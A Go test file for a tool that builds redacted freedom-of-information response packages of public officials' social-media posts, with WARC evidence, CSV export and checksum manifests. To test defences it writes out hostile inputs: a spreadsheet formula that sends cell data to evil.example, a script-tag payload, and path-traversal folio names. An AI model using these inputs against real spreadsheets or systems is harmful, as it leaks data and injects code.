package access_test

import (
	"archive/zip"
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vigia-mx/vigia/access"
	"github.com/vigia-mx/vigia/archive"
	"github.com/vigia-mx/vigia/archive/warc"
	"github.com/vigia-mx/vigia/internal/spanish"
)

// Invented posts of a works department's account and a councillor's
// registered personal account.
const (
	textRepaving = "Iniciamos la repavimentación de la avenida Juárez entre Colón y Degollado.\nHabrá cierres parciales del 1 al 5 de diciembre."
	textPotholes = "Esta semana cuadrillas de bacheo atienden 120 reportes en la colonia Santa Tere."
	textMeeting  = "Gracias @vecina_ana por el reporte del bache en la calle Morelos. Dudas al correo vecina.ana@ejemplo.mx o al 33 1234 5678."
	textCouncil  = "Hoy en sesión de cabildo aprobamos el presupuesto participativo 2027 para bacheo en las colonias del oriente."
	textBirthday = "Feliz cumpleaños a mi mamá, la mejor del mundo.\nComimos pozole en familia."
	textPark     = "Qué bonito día en el parque con los perros, hasta encontramos un bache lleno de agua."
)

// secrets are what no file of the redacted package may say.
var secrets = []string{
	"Feliz cumpleaños a mi mamá", "Comimos pozole en familia", // personal
	"Qué bonito día en el parque",                          // awaiting review
	"@vecina_ana", "vecina.ana@ejemplo.mx", "33 1234 5678", // masked
}

// fixture is a search's hits with their evidence.
type fixture struct {
	hits     []archive.Hit
	warcDir  string
	requests map[string]string // WARC-Record-ID of each response → of its request
	listing  archive.WARCRef   // the works account's listing: two delivered posts, nothing to withhold
}

func newFixture(t *testing.T) *fixture {
	ev := newEvidence(t, false)
	listing := ev.add("https://social.example/api/v1/accounts/obras-gdl/statuses", page(textRepaving, textPotholes), false)
	meeting := ev.add("https://social.example/api/v1/statuses/113", page(textMeeting), false)
	council := ev.add("https://social.example/api/v1/accounts/regidora-lopez/statuses", page(textCouncil, textBirthday), true)
	park := ev.add("https://social.example/api/v1/statuses/903", page(textPark), false)
	ev.close()

	f := &fixture{warcDir: ev.dir, listing: listing, requests: map[string]string{}}
	meetingHit := hit("obras-gdl", "113", archive.Function, textMeeting, meeting)
	meetingHit.Decision.Rationale = "Relacionada con las funciones. Señales: menciona @vecina_ana."
	meetingHit.ReplyTo = "https://social.example/@vecina_ana/77"
	f.hits = []archive.Hit{
		hit("obras-gdl", "111", archive.Function, textRepaving, listing),
		hit("obras-gdl", "112", archive.Function, textPotholes, listing),
		meetingHit,
		hit("regidora-lopez", "901", archive.Function, textCouncil, council),
		hit("regidora-lopez", "902", archive.Personal, textBirthday, council),
		hit("regidora-lopez", "903", archive.Undetermined, textPark, park),
	}
	entries, err := os.ReadDir(ev.dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.IsDir() { // the CDXJ indexes of the files
			continue
		}
		var last string
		for _, r := range readWARC(t, readFile(t, filepath.Join(ev.dir, e.Name()))) {
			if r.typ == "response" {
				f.requests[r.id] = last
			}
			last = r.id
		}
	}
	return f
}

func TestBuild(t *testing.T) {
	f := newFixture(t)
	pkg := build(t, request(), f.hits, access.Options{Visibility: testVisibility, WARCDir: f.warcDir, Redact: redact})
	files := contents(t, pkg)

	t.Run("counts", func(t *testing.T) {
		got := [...]int{pkg.Delivered, pkg.Excluded, pkg.Undetermined, len(pkg.Redactions), pkg.EvidenceRecords, len(pkg.Missing), len(pkg.Withheld)}
		want := [...]int{4, 1, 1, 3, 3, 0, 2}
		if got != want {
			t.Errorf("delivered, excluded, undetermined, redactions, records, missing, withheld = %v, want %v", got, want)
		}
		if wantFiles := []string{"evidencia.wacz", "evidencia.warc.gz", "publicaciones.csv", "publicaciones.jsonl",
			"publicaciones/mastodon-obras-gdl-111-v0.html", "publicaciones/mastodon-obras-gdl-112-v0.html", // (pages.go)
			"publicaciones/mastodon-obras-gdl-113-v0.html", "publicaciones/mastodon-regidora-lopez-901-v0.html", "respuesta.html"}; !slices.Equal(pkg.Files, wantFiles) {
			t.Errorf("Files = %q, want %q", pkg.Files, wantFiles)
		}
		if pkg.Zip != pkg.Dir+".zip" {
			t.Errorf("Zip = %q, want %q", pkg.Zip, pkg.Dir+".zip")
		}
	})

	t.Run("manifest", func(t *testing.T) {
		checkManifest(t, pkg)
	})

	t.Run("nothing left out is written", func(t *testing.T) {
		// Nor the hash of the redacted post's original text, which would
		// confirm a guess of what was masked.
		nowhere(t, files, slices.Concat(secrets, []string{f.hits[2].ContentSHA256})...)
	})

	t.Run("csv", func(t *testing.T) {
		// Excel in Spanish reads the accents of a CSV file with a byte
		// order mark
		data, ok := strings.CutPrefix(files["publicaciones.csv"], "\uFEFF")
		if !ok {
			t.Error("publicaciones.csv does not start with a byte order mark")
		}
		rows, err := csv.NewReader(strings.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 5 {
			t.Fatalf("%d rows, want a header and 4 posts", len(rows))
		}
		header := strings.Join(rows[0], ",")
		if want := "red,cuenta,id,url,autor,publicado,editado,versiones,texto,etiqueta,confianza,fundamento,eliminado_en_origen,sha256,warc_archivo,warc_registro," +
			"version,decidio,vista_por_primera_vez,vista_por_ultima_vez,compartida_de,texto_compartido,persona_servidora_publica,cargo,area"; header != want {
			t.Errorf("header %s, want %s", header, want)
		}
		var ids []string
		for _, r := range rows[1:] {
			ids = append(ids, r[1]+"/"+r[2])
		}
		if want := []string{"obras-gdl/111", "obras-gdl/112", "obras-gdl/113", "regidora-lopez/901"}; !slices.Equal(ids, want) {
			t.Errorf("posts %q, want %q", ids, want)
		}
		first := rows[1]
		got := []string{first[0], first[5], first[6], first[7], first[8], first[9], first[11], first[12], first[13], first[14], first[15]}
		want := []string{"mastodon", "18/11/2026 09:04:00", "no", "1", textRepaving, "funciones", "Sexta", "",
			f.hits[0].ContentSHA256, f.listing.File, f.listing.RecordID}
		if !slices.Equal(got, want) {
			t.Errorf("first row\n got %q\nwant %q", got, want)
		}
		if wantText, _ := redact(&f.hits[2]); rows[3][8] != wantText || rows[3][13] != "" {
			t.Errorf("redacted post: text %q, sha256 %q; want %q and no hash of the original", rows[3][8], rows[3][13], wantText)
		}
	})

	t.Run("jsonl", func(t *testing.T) {
		var got []archive.HitJSON
		sc := bufio.NewScanner(strings.NewReader(files["publicaciones.jsonl"]))
		for sc.Scan() {
			// the post as archive.HitJSON, then its versions
			var line struct {
				archive.HitJSON
				DeliveredVersions []map[string]any `json:"delivered_versions"`
				WithheldVersions  int              `json:"withheld_versions"`
			}
			dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
			dec.DisallowUnknownFields()
			if err := dec.Decode(&line); err != nil {
				t.Fatalf("line %d: %v", len(got)+1, err)
			}
			h := line.HitJSON
			if len(line.DeliveredVersions) != 1 || line.DeliveredVersions[0]["text"] != h.Text || line.WithheldVersions != 0 {
				t.Errorf("line %d: versions %+v, %d withheld; want the one delivered", len(got)+1, line.DeliveredVersions, line.WithheldVersions)
			}
			got = append(got, h)
		}
		if len(got) != 4 {
			t.Fatalf("%d lines, want 4", len(got))
		}
		want := archive.NewHitJSON(&f.hits[2])
		want.Text, _ = redact(&f.hits[2])
		want.Rationale = "Relacionada con las funciones. Señales: menciona [testado]."
		want.ReplyTo = "https://social.example/[testado]/77"
		want.ContentSHA256 = ""
		gotJSON, _ := json.Marshal(got[2])
		wantJSON, _ := json.Marshal(want)
		if !bytes.Equal(gotJSON, wantJSON) {
			t.Errorf("redacted post\n got %s\nwant %s", gotJSON, wantJSON)
		}
		if got[0].Text != textRepaving || got[0].PostID != "111" {
			t.Errorf("first post %s %q", got[0].PostID, got[0].Text)
		}
	})

	t.Run("evidence", func(t *testing.T) {
		// The listing of the works account is copied once for its two
		// posts, after the warcinfo record of its file; the meeting's
		// holds what was masked and the councillor's listing holds her
		// personal post: both withheld.
		recs := verifyEvidence(t, pkg, 4)
		if recs[0].typ != "warcinfo" || !strings.Contains(string(recs[0].block), "140285725000123") {
			t.Errorf("first record is %s: %q", recs[0].typ, recs[0].block)
		}
		got := []string{recs[1].typ, recs[2].id, recs[3].id}
		want := []string{"warcinfo", f.requests[f.listing.RecordID], f.listing.RecordID}
		if !slices.Equal(got, want) {
			t.Errorf("records %q, want the listing's file's warcinfo, then its request and response %q", got, want)
		}
		withheld := strings.Join(pkg.Withheld, "\n")
		for _, want := range []string{
			"obras-gdl/113 (archivo " + f.hits[2].WARC.File + ", registro " + f.hits[2].WARC.RecordID + "): contiene datos testados",
			"regidora-lopez/901 (archivo " + f.hits[3].WARC.File + ", registro " + f.hits[3].WARC.RecordID + "): contiene el texto de una publicación no entregada",
		} {
			if !strings.Contains(withheld, want) {
				t.Errorf("Withheld %q lacks %q", pkg.Withheld, want)
			}
		}
	})

	t.Run("report", func(t *testing.T) {
		html := files["respuesta.html"]
		for _, want := range []string{
			"140285725000123", "Ayuntamiento de Ejemplo",
			"20 de noviembre de 2026", // received
			"<dt>Fecha de esta respuesta</dt><dd>27 de noviembre de 2026</dd>",
			"18 de noviembre de 2026, 09:04 h",                     // a post, in Mexico City
			"cuentas: obras-gdl, regidora-lopez; desde 2026-11-01", // searched
			"Solicito las publicaciones de la Dirección de Obras Públicas",
			"<strong>4</strong> publicaciones relacionadas con las funciones se entregan",
			"<strong>1</strong> publicación se excluye",
			"Política Sexta de las Políticas Generales para la Difusión de Información Pública mediante las Redes Sociales Digitales",
			"<strong>1</strong> publicación está pendiente de revisión",
			`<td><a href="#pub-3">Publicación 3</a>, obras-gdl (Mastodon)</td><td>mención</td><td>Artículo 115`,
			`<article class="pub" id="pub-3">`,
			"Recurso de revisión", "dentro de los quince días hábiles siguientes", "Titular de la Unidad de Transparencia", "Atentamente",
			"vigia verificar-paquete " + filepath.Base(pkg.Zip),
			"<td>correo</td>", "<td>teléfono</td>",
			"3 registros WARC",
			"No se incluye la evidencia de 2 publicaciones",
			"Gracias [mención testado] por el reporte",
			`<a href="https://social.example/@obras-gdl/111">`,
		} {
			if !strings.Contains(html, want) {
				t.Errorf("respuesta.html lacks %q", want)
			}
		}
		if strings.Contains(html, "<script") {
			t.Error("respuesta.html has a script")
		}
		// the internal deadline and who prepared it are the office's
		// own record, not the requester's
		for _, internal := range []string{"11 de diciembre de 2026", "días hábiles)", "Fecha límite", "mgarcia"} {
			if strings.Contains(html, internal) {
				t.Errorf("respuesta.html shows the office's %q", internal)
			}
		}
	})

	t.Run("office record", func(t *testing.T) {
		data, err := os.ReadFile(pkg.Record)
		if err != nil {
			t.Fatal(err)
		}
		record := string(data)
		sum, _ := os.ReadFile(pkg.Zip)
		for _, want := range []string{"11 de diciembre de 2026 (15 días hábiles)", "27 de noviembre de 2026, 12:00 h, por mgarcia",
			fmt.Sprintf("%x", sha256.Sum256(sum)), "no se entrega a la persona solicitante"} {
			if !strings.Contains(record, want) {
				t.Errorf("%s lacks %q", pkg.Record, want)
			}
		}
		if pkg.Record != pkg.Dir+"-registro-interno.html" || zipHolds(t, pkg.Zip, "registro") {
			t.Errorf("the office's record is %s, or in the zip", pkg.Record)
		}
	})
}

// zipHolds reports whether a file of the zip at path has name in its name.
func zipHolds(t *testing.T, path, name string) bool {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, f := range zr.File {
		if strings.Contains(f.Name, name) {
			return true
		}
	}
	return false
}

// checkManifest checks MANIFIESTO.sha256 with sha256sum and in Go, and
// that its first line is the comment naming the request.
func checkManifest(t *testing.T, pkg *access.Package) {
	t.Helper()
	if _, err := exec.LookPath("sha256sum"); err != nil {
		t.Log("no sha256sum here: checked in Go only")
	} else {
		cmd := exec.Command("sha256sum", "--strict", "-c", "MANIFIESTO.sha256")
		cmd.Dir = pkg.Dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("sha256sum -c: %v\n%s", err, out)
		}
	}
	var listed []string
	manifest := string(readFile(t, filepath.Join(pkg.Dir, "MANIFIESTO.sha256")))
	comment, manifest, _ := strings.Cut(manifest, "\n")
	if want := "# Solicitud de acceso a la información, folio "; !strings.HasPrefix(comment, want) {
		t.Errorf("manifest starts %q, want %q and the folio", comment, want)
	}
	for l := range strings.Lines(manifest) {
		sum, name, ok := strings.Cut(strings.TrimSuffix(l, "\n"), "  ")
		if !ok {
			t.Fatalf("manifest line %q", l)
		}
		if got := sha256.Sum256(readFile(t, filepath.Join(pkg.Dir, name))); hex.EncodeToString(got[:]) != sum {
			t.Errorf("%s: manifest says %s, file is %x", name, sum, got)
		}
		listed = append(listed, name)
	}
	if !slices.Equal(listed, pkg.Files) {
		t.Errorf("manifest lists %q, Files %q", listed, pkg.Files)
	}
}

// verifyEvidence checks evidencia.warc.gz with warc.Verify and returns its
// records, failing unless there are n.
func verifyEvidence(t *testing.T, pkg *access.Package, n int) []warcRecord {
	t.Helper()
	ix, problems, err := warc.Verify(t.Context(), pkg.Dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range problems {
		t.Error(p)
	}
	recs := readWARC(t, readFile(t, filepath.Join(pkg.Dir, "evidencia.warc.gz")))
	if ix.Files != 1 || ix.Records != n || len(recs) != n {
		t.Fatalf("verify read %d files, %d records; the file holds %d; want 1 file of %d", ix.Files, ix.Records, len(recs), n)
	}
	infos := map[string]bool{}
	for _, r := range recs {
		if r.typ == "warcinfo" {
			infos[r.id] = true
		}
		if r.warcinfo != "" && !infos[r.warcinfo] {
			t.Errorf("%s record %s names warcinfo %s, not before it in the file", r.typ, r.id, r.warcinfo)
		}
		if _, ok := ix.Lookup(r.id); !ok {
			t.Errorf("verify did not index %s", r.id)
		}
	}
	return recs
}

func TestBuildWithoutRedactCopiesEvidenceOfDeliveredPosts(t *testing.T) {
	f := newFixture(t)
	pkg := build(t, request(), f.hits, access.Options{Visibility: testVisibility, WARCDir: f.warcDir})
	// The listing and the meeting (request and response each); the
	// councillor's listing holds her personal post.
	recs := verifyEvidence(t, pkg, 6)
	meeting := f.hits[2].WARC.RecordID
	if got, want := recs[5].id, meeting; got != want {
		t.Errorf("last record %s, want %s", got, want)
	}
	if got, want := recs[4].id, f.requests[meeting]; got != want {
		t.Errorf("record before the meeting's response %s, want its request %s", got, want)
	}
	if len(pkg.Withheld) != 1 || !strings.HasPrefix(pkg.Withheld[0], "mastodon/regidora-lopez/901 ") {
		t.Errorf("Withheld = %q, want the councillor's listing", pkg.Withheld)
	}
	files := contents(t, pkg)
	nowhere(t, files, secrets[:3]...)
	for _, name := range []string{"publicaciones.csv", "publicaciones.jsonl", "respuesta.html", "evidencia.warc.gz"} {
		if !strings.Contains(files[name], "vecina.ana@ejemplo.mx") {
			t.Errorf("%s lacks the meeting's text, not redacted", name)
		}
	}
}

func TestBuildEvidenceProblems(t *testing.T) {
	ev := newEvidence(t, true) // one file per exchange
	refs := make([]archive.WARCRef, 6)
	for i := range refs {
		refs[i] = ev.add("https://social.example/api/v1/statuses/"+strconv.Itoa(i+1), page(textPotholes), false)
	}
	ev.close()
	if err := os.Remove(filepath.Join(ev.dir, refs[1].File)); err != nil {
		t.Fatal(err)
	}
	damaged := filepath.Join(ev.dir, refs[4].File)
	data := readFile(t, damaged)
	data[refs[4].Offset+40] ^= 0xff
	if err := os.WriteFile(damaged, data, 0o644); err != nil {
		t.Fatal(err)
	}
	// A file whose warcinfo record is gone: the records that name it
	// cannot be delivered with it.
	noInfo := refs[5]
	data = readFile(t, filepath.Join(ev.dir, noInfo.File))
	cut := firstMember(t, data)
	noInfo.File, noInfo.Offset = "sin-warcinfo.warc.gz", noInfo.Offset-cut
	if err := os.WriteFile(filepath.Join(ev.dir, noInfo.File), data[cut:], 0o644); err != nil {
		t.Fatal(err)
	}
	wrongDigest, wrongID := refs[2], refs[3]
	wrongDigest.Digest = "sha256:" + strings.Repeat("0", 64)
	wrongID.RecordID = "<urn:uuid:00000000-0000-4000-8000-000000000000>"
	hits := []archive.Hit{
		hit("obras-gdl", "1", archive.Function, textPotholes, refs[0]),
		hit("obras-gdl", "2", archive.Function, textPotholes, refs[1]),
		hit("obras-gdl", "3", archive.Function, textPotholes, wrongDigest),
		hit("obras-gdl", "4", archive.Function, textPotholes, wrongID),
		hit("obras-gdl", "5", archive.Function, textPotholes, refs[4]),
		hit("obras-gdl", "6", archive.Function, textPotholes, archive.WARCRef{}),
		hit("obras-gdl", "7", archive.Function, textPotholes, archive.WARCRef{File: "../x.warc.gz", RecordID: "<urn:uuid:x>"}),
		hit("obras-gdl", "8", archive.Function, textPotholes, noInfo),
	}
	want := []string{
		"mastodon/obras-gdl/2 (archivo " + refs[1].File + ", registro " + refs[1].RecordID + "): no se encontró el archivo",
		"mastodon/obras-gdl/3 (archivo " + refs[2].File + ", registro " + refs[2].RecordID + "): su WARC-Block-Digest no es el de la referencia",
		"mastodon/obras-gdl/4 (archivo " + refs[3].File + ", registro " + wrongID.RecordID + "): en el desplazamiento " +
			strconv.FormatInt(refs[3].Offset, 10) + " está el registro " + refs[3].RecordID + ", no el referido",
		"mastodon/obras-gdl/5 (archivo " + refs[4].File + ", registro " + refs[4].RecordID + "): no se pudo leer el registro en el desplazamiento " + strconv.FormatInt(refs[4].Offset, 10),
		"mastodon/obras-gdl/6: sin referencia a evidencia WARC",
		"mastodon/obras-gdl/7 (archivo ../x.warc.gz, registro <urn:uuid:x>): nombre de archivo no válido",
		"mastodon/obras-gdl/8 (archivo sin-warcinfo.warc.gz, registro " + noInfo.RecordID + "): no se pudo leer el registro warcinfo al inicio del archivo",
	}

	// Unless the officer allows it, no package is made without the
	// evidence of a post it delivers; the error names every such post.
	dir := filepath.Join(t.TempDir(), "solicitud")
	_, err := access.Build(t.Context(), request(), hits, dir, access.Options{Visibility: testVisibility, WARCDir: ev.dir, Now: func() time.Time { return now }})
	var missing *access.MissingEvidenceError
	if !errors.Is(err, access.ErrMissingEvidence) || !errors.As(err, &missing) {
		t.Fatalf("error %v, want a MissingEvidenceError", err)
	}
	if len(missing.Posts) != len(want) {
		t.Fatalf("the error names %q, want %d posts", missing.Posts, len(want))
	}
	for i, w := range want {
		if !strings.HasPrefix(missing.Posts[i], w) || !strings.Contains(err.Error(), w) {
			t.Errorf("the error's post %d is %q, want it to start %q", i, missing.Posts[i], w)
		}
	}
	for _, path := range []string{dir, dir + ".zip"} {
		if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s left behind", path)
		}
	}

	pkg := build(t, request(), hits, access.Options{Visibility: testVisibility, WARCDir: ev.dir, AllowMissingEvidence: true})
	verifyEvidence(t, pkg, 4) // its warcinfo; the first post's file's warcinfo, request and response
	if len(pkg.Missing) != len(want) {
		t.Fatalf("Missing = %q, want %d entries", pkg.Missing, len(want))
	}
	report := contents(t, pkg)["respuesta.html"]
	for i, w := range want {
		if !strings.HasPrefix(pkg.Missing[i], w) {
			t.Errorf("Missing[%d] = %q, want it to start %q", i, pkg.Missing[i], w)
		}
		// the report names the post as people read it (spanish.PostLine)
		if !strings.Contains(report, "<li>"+html.EscapeString(spanish.PostLine(w))) {
			t.Errorf("respuesta.html lacks %q", w)
		}
	}
	if !strings.Contains(report, "No se pudo incluir la evidencia de 7 publicaciones; quien elaboró el paquete pidió expresamente entregarlo sin ella:") {
		t.Error("respuesta.html does not say evidence is missing, as the officer allowed")
	}
	checkManifest(t, pkg)
}

func TestBuildReadsFileBeingWritten(t *testing.T) {
	ev := newEvidence(t, false)
	ref := ev.add("https://social.example/api/v1/statuses/1", page(textPotholes), false)
	if _, err := os.Stat(filepath.Join(ev.dir, ref.File+".open")); err != nil {
		t.Fatalf("the writer's file is not open: %v", err)
	}
	pkg := build(t, request(), []archive.Hit{hit("obras-gdl", "1", archive.Function, textPotholes, ref)}, access.Options{Visibility: testVisibility, WARCDir: ev.dir})
	if recs := verifyEvidence(t, pkg, 4); recs[3].id != ref.RecordID {
		t.Errorf("copied %s, want %s", recs[3].id, ref.RecordID)
	}
}

func TestBuildWithoutWARCDir(t *testing.T) {
	f := newFixture(t)
	pkg := build(t, request(), f.hits, access.Options{Visibility: testVisibility, Redact: redact})
	verifyEvidence(t, pkg, 1)
	if pkg.EvidenceRecords != 0 || len(pkg.Missing) != 0 || len(pkg.Withheld) != 0 {
		t.Errorf("records %d, missing %q, withheld %q: want none", pkg.EvidenceRecords, pkg.Missing, pkg.Withheld)
	}
	files := contents(t, pkg)
	nowhere(t, files, secrets...)
	if !strings.Contains(files["respuesta.html"], "no incluye los registros WARC") {
		t.Error("respuesta.html does not say the evidence is left out")
	}
	checkManifest(t, pkg)
}

func TestBuildRefuses(t *testing.T) {
	for _, folio := range []string{"", "   ", strings.Repeat("1", 101), "UT/0042\n2026", "UT\t0042", "F-1\x7f", "F-1\u0085",
		"\u202eF-1", "F-\xff1"} {
		req := request()
		req.Folio = folio
		dir := filepath.Join(t.TempDir(), "paquete")
		_, err := access.Build(t.Context(), req, nil, dir, access.Options{Visibility: testVisibility})
		if !errors.Is(err, access.ErrBadFolio) {
			t.Errorf("folio %q: error %v, want ErrBadFolio", folio, err)
		}
		if _, err := os.Stat(dir); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("folio %q: %s was created", folio, dir)
		}
	}

	t.Run("folder not empty", func(t *testing.T) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "otro.txt"), []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := access.Build(t.Context(), request(), nil, dir, access.Options{Visibility: testVisibility}); !errors.Is(err, access.ErrExists) {
			t.Errorf("error %v, want ErrExists", err)
		}
		if entries, _ := os.ReadDir(dir); len(entries) != 1 {
			t.Errorf("the folder holds %d files, want its 1", len(entries))
		}
	})
	t.Run("empty folder is taken", func(t *testing.T) {
		dir := t.TempDir()
		if _, err := access.Build(t.Context(), request(), nil, dir, access.Options{Visibility: testVisibility}); err != nil {
			t.Error(err)
		}
	})
	t.Run("zip there", func(t *testing.T) {
		dir := filepath.Join(t.TempDir(), "p")
		if err := os.WriteFile(dir+".zip", []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := access.Build(t.Context(), request(), nil, dir, access.Options{Visibility: testVisibility}); !errors.Is(err, access.ErrExists) {
			t.Errorf("error %v, want ErrExists", err)
		}
	})
	t.Run("bad redaction", func(t *testing.T) {
		hits := []archive.Hit{hit("obras-gdl", "113", archive.Function, textMeeting, archive.WARCRef{})}
		for name, fn := range map[string]func(*archive.Hit) (string, []access.Redaction){
			"outside the text": func(h *archive.Hit) (string, []access.Redaction) {
				return "x", []access.Redaction{{Kind: "correo", Start: 10, End: len(h.Text) + 1}}
			},
			"still in the text": func(h *archive.Hit) (string, []access.Redaction) {
				i := strings.Index(h.Text, "33 1234")
				return h.Text, []access.Redaction{{Kind: "teléfono", Start: i, End: i + len("33 1234 5678")}}
			},
		} {
			dir := filepath.Join(t.TempDir(), "p")
			_, err := access.Build(t.Context(), request(), hits, dir, access.Options{Visibility: testVisibility, Redact: fn})
			if !errors.Is(err, access.ErrBadRedaction) {
				t.Errorf("%s: error %v, want ErrBadRedaction", name, err)
			}
			if strings.Contains(err.Error(), "33 1234") {
				t.Errorf("%s: the error tells the masked text: %v", name, err)
			}
		}
	})
}

func TestBuildCancelled(t *testing.T) {
	f := newFixture(t)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	dir := filepath.Join(t.TempDir(), "p")
	_, err := access.Build(ctx, request(), f.hits, dir, access.Options{Visibility: testVisibility, WARCDir: f.warcDir})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("error %v, want context.Canceled", err)
	}
	for _, path := range []string{dir, dir + ".zip"} {
		if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s left behind", path)
		}
	}
}

// Folios as offices write them are accepted and shown verbatim: in the
// report (HTML-escaped), the manifest and the evidence's warcinfo record;
// the package is where it was asked for, whatever the folio says.
func TestFolioAsWritten(t *testing.T) {
	for _, folio := range []string{
		"UT/0042/2026", "140285726000123", "SAIP-2026-118", "SO-2026_01.a",
		"../../etc", ".hidden", "..", "a/b", "Solicitud ñandú №7 (Zapopan)", `F-1 <script>alert("x")</script> & 'y'`,
		strings.Repeat("9", 100),
	} {
		t.Run(access.SafeName(folio), func(t *testing.T) {
			req := request()
			req.Folio = folio
			parent := t.TempDir()
			dir := filepath.Join(parent, "paquete")
			pkg, err := access.Build(t.Context(), req, nil, dir, access.Options{Visibility: testVisibility, Now: func() time.Time { return now }})
			if err != nil {
				t.Fatal(err)
			}
			if pkg.Dir != dir || pkg.Zip != dir+".zip" {
				t.Errorf("package at %s and %s, want %s", pkg.Dir, pkg.Zip, dir)
			}
			if entries, _ := os.ReadDir(parent); len(entries) != 3 {
				t.Errorf("%s holds %d entries, want the folder, its zip and the office's record", parent, len(entries))
			}
			files := contents(t, pkg)
			report := files["respuesta.html"]
			if !strings.Contains(report, "<dt>Folio</dt><dd>"+html.EscapeString(folio)+"</dd>") {
				t.Errorf("respuesta.html does not show the folio %q escaped", folio)
			}
			if strings.Contains(folio, "<") && strings.Contains(report, "<script") {
				t.Error("respuesta.html holds the folio's markup")
			}
			if !strings.HasPrefix(files["MANIFIESTO.sha256"], "# Solicitud de acceso a la información, folio "+folio+"\n") {
				t.Errorf("manifest does not name the folio: %.120q", files["MANIFIESTO.sha256"])
			}
			if !strings.Contains(files["evidencia.warc.gz"], "isPartOf: solicitud "+folio+"\r\n") {
				t.Errorf("the warcinfo record does not name the folio")
			}
			checkManifest(t, pkg)
		})
	}
}

func TestSafeName(t *testing.T) {
	for _, tc := range []struct{ folio, want string }{
		{"140285726000123", "140285726000123"},
		{"SAIP-2026-118", "SAIP-2026-118"},
		{"UT/0042/2026", "UT-0042-2026"},
		{"../../etc", "etc"},
		{".hidden", "hidden"},
		{"..", "solicitud"},
		{"///", "solicitud"},
		{"a/b", "a-b"},
		{"SO-2026_01.a", "SO-2026_01-a"},
		{"--x--", "x"},
		{"Solicitud ñandú №7 (Zapopan)", "Solicitud-nandu-7-Zapopan"},
		{"Überprüfung", "Uberprufung"},
		{"折り紙", "solicitud"},
		{`C:\Windows\..\x`, "C-Windows-x"},
		{strings.Repeat("ab/", 40), strings.TrimSuffix(strings.Repeat("ab-", 22), "-")[:64]},
	} {
		got := access.SafeName(tc.folio)
		if got != tc.want {
			t.Errorf("SafeName(%q) = %q, want %q", tc.folio, got, tc.want)
		}
		if ok, _ := regexp.MatchString(`^[A-Za-z0-9_][A-Za-z0-9_-]{0,63}$`, got); !ok || strings.HasSuffix(got, "-") {
			t.Errorf("SafeName(%q) = %q: not a safe name", tc.folio, got)
		}
	}
}

// A package is the office's until delivered: no other user of the machine
// reads it.
func TestBuildPermissions(t *testing.T) {
	f := newFixture(t)
	old := syscall.Umask(0o022)
	defer syscall.Umask(old)
	check := func(pkg *access.Package) {
		t.Helper()
		mode := func(path string) os.FileMode {
			fi, err := os.Stat(path)
			if err != nil {
				t.Fatal(err)
			}
			return fi.Mode().Perm()
		}
		if m := mode(pkg.Dir); m != 0o700 {
			t.Errorf("%s: mode %v, want 0700", pkg.Dir, m)
		}
		for _, name := range append(slices.Clone(pkg.Files), "MANIFIESTO.sha256") {
			if m := mode(filepath.Join(pkg.Dir, name)); m != 0o600 {
				t.Errorf("%s: mode %v, want 0600", name, m)
			}
		}
		if m := mode(pkg.Zip); m != 0o600 {
			t.Errorf("%s: mode %v, want 0600", pkg.Zip, m)
		}
	}
	check(build(t, request(), f.hits, access.Options{Visibility: testVisibility, WARCDir: f.warcDir}))
	// a folder the officer made is taken, and closed to others
	dir := filepath.Join(t.TempDir(), "respuesta")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	pkg, err := access.Build(t.Context(), request(), f.hits, dir, access.Options{Visibility: testVisibility, WARCDir: f.warcDir})
	if err != nil {
		t.Fatal(err)
	}
	check(pkg)
}

// A post whose text a spreadsheet would run as a formula is delivered as
// text: its cell starts with an apostrophe. The JSON lines keep it as is.
func TestCSVNeutralisesFormulas(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?q="&A1,"Ver informe")`
	hits := []archive.Hit{
		hit("obras-gdl", "1", archive.Function, formula, archive.WARCRef{}),
		hit("obras-gdl", "2", archive.Function, "+52 33 0000 0000 es el teléfono de la oficina", archive.WARCRef{}),
		hit("obras-gdl", "3", archive.Function, textPotholes, archive.WARCRef{}),
	}
	pkg := build(t, request(), hits, access.Options{Visibility: testVisibility})
	files := contents(t, pkg)
	rows, err := csv.NewReader(strings.NewReader(files["publicaciones.csv"])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'" + formula, "'+52 33 0000 0000 es el teléfono de la oficina", textPotholes}
	for i, w := range want {
		if got := rows[i+1][8]; got != w {
			t.Errorf("post %d: text cell %q, want %q", i+1, got, w)
		}
		if got := rows[i+1][4]; got != "'@obras-gdl" {
			t.Errorf("post %d: author cell %q, want '@obras-gdl", i+1, got)
		}
	}
	if !strings.Contains(files["publicaciones.jsonl"], `"text":"=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Ver informe\")"`) {
		t.Errorf("publicaciones.jsonl changed the text: %s", files["publicaciones.jsonl"])
	}
}
